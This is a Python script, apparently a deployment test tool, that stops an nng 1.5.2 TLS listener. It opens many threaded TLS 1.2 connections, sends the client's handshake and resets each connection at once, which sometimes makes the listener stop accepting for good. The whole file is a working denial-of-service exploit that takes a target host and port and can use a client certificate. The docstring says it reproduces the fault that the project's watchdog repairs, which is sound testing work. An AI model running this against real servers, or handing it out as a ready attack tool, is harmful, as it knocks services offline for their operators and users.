#!/usr/bin/env python3
"""Stops an nng 1.5.2 tls+tcp listener: the attack PowerWalk's listener watchdog repairs.

Each connection sends the client's whole TLS 1.2 handshake and resets the connection (SO_LINGER 0)
without waiting for the server's Finished. The server completes the handshake on a connection that is
already reset; now and then its SP negotiation then fails with NNG_ECLOSED, which nng 1.5.2 takes for
its own listener closing (nng issue #1518): the listener stops accepting for good. A few hundred to a
few thousand connections on loopback are usually enough. Without a client certificate it reaches
only servers that ask for none (a front without client certificates).

    deploy/tools/tls-reset-after-handshake.py HOST PORT [--cert PEM --key PEM] [--threads N] [--seconds S]

Prints the number of connections made. Uses only Python's standard library.
"""
import argparse
import socket
import ssl
import struct
import threading
import time


def reset_after_handshake(address, context):
    """One connection: ClientHello, then the client's second flight, then a reset."""
    try:
        sock = socket.create_connection(address, timeout=5)
    except OSError:
        return  # the listener is restarting: nothing to connect to for a moment
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing)
    flights = 0
    try:
        while flights < 2:
            try:
                tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                data = outgoing.read()
                if data:
                    sock.sendall(data)
                    flights += 1
                    if flights == 2:
                        break  # the Finished is sent: reset before the server's arrives
                chunk = sock.recv(65536)
                if not chunk:
                    break
                incoming.write(chunk)
    except (OSError, ssl.SSLError):
        pass
    sock.close()


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--cert", help="client certificate (PEM), for servers that require one")
    parser.add_argument("--key", help="the client certificate's private key (PEM)")
    parser.add_argument("--threads", type=int, default=4)
    parser.add_argument("--seconds", type=float, default=10.0)
    args = parser.parse_args()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.maximum_version = ssl.TLSVersion.TLSv1_2  # nng 1.5.2's Mbed TLS speaks TLS 1.2
    if args.cert:
        context.load_cert_chain(args.cert, args.key)
    count = [0]
    lock = threading.Lock()

    def run():
        end = time.monotonic() + args.seconds
        while time.monotonic() < end:
            reset_after_handshake((args.host, args.port), context)
            with lock:
                count[0] += 1

    threads = [threading.Thread(target=run) for _ in range(args.threads)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(count[0])


if __name__ == "__main__":
    main()
